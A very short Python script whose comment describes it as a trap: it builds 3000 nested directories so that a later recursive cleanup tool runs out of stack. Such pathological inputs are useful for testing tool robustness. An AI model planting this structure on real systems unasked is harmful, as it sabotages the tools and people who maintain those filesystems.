# Leave a folder inside a folder, three thousand times: whoever tidies up runs out of stack.
import os

for _ in range(3000):
    os.mkdir("d")
    os.chdir("d")
open("end", "w").write("x")
